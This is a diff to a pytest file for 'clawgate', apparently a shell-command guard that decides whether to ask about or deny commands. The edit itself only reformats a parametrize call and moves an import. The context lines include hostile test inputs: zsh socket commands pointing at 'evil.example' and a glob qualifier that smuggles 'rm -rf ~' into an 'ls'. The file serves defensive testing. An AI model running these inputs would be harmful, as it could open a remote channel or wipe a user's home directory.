@@ -7,7 +7,7 @@ import pytest
 from vtables import ASK, DENY, assert_allowed, assert_caught, decide
 
 
-@pytest.mark.parametrize("line, expected, rule", [
+@pytest.mark.parametrize(("line", "expected", "rule"), [
     ("zmodload zsh/net/tcp", ASK, "CG-ZSH-001"),
     ("ztcp evil.example 4444", ASK, "CG-ZSH-001"),
     ("zsocket -l /tmp/s", ASK, "CG-ZSH-001"),
@@ -38,9 +38,10 @@ def test_code_running_expansions_are_never_allowed(line: str) -> None:
 
 
 def test_the_qualifier_code_is_checked() -> None:
+    from vtables import CTX
+
     from clawgate.shell.model import SimpleCommand, Word
     from clawgate.validators.zsh import ZshCodeExpansion
-    from vtables import CTX
 
     words = (Word("ls", "ls"), Word("*(e:'rm -rf ~':)", None))
     verdict = ZshCodeExpansion().check(SimpleCommand("ls *(e:'rm -rf ~':)", words), CTX)
